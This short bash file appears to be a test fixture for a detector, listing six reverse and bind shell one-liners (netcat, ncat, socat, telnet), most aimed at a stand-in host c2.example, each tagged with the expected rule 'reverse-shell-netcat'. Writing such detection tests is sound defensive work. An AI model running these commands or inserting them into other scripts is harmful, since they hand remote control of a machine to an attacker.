#!/bin/bash
# expect: reverse-shell-netcat
nc c2.example 4444 -e /bin/sh
# expect: reverse-shell-netcat
nc -lvp 4444 -e /bin/bash
# expect: reverse-shell-netcat
ncat --exec "/bin/bash" c2.example 4444
# expect: reverse-shell-netcat
socat TCP:c2.example:4444 EXEC:/bin/bash
# expect: reverse-shell-netcat
nc -l 4444 | sh
# expect: reverse-shell-netcat
telnet c2.example 4444 | /bin/sh | telnet c2.example 4445
